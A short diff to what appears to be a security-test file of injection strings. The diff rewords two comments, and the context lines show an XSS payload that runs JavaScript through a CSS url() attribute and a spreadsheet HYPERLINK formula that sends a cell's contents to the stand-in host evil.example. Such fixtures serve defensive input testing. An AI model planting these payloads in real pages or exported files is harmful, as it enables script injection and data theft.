@@ -1,5 +1,5 @@
 /**
- * Texts that run where they are taken for more than text. Each calls `__xss`, or alert, where a
+ * Texts that run where they are treated as more than text. Each calls `__xss`, or alert, where a
  * browser lets it. At most 120 characters, so that a name has room for them.
  */
 
@@ -201,7 +201,7 @@ const styles = [
   `<input value=a style="--x:url(javascript:${CALL})">`,
 ];
 
-/** What a spreadsheet takes for more than text. */
+/** Texts that a spreadsheet would treat as a formula. */
 const formulas = [
   '=1+1',
   '=HYPERLINK("https://evil.example/?"&A1,"Zona")',
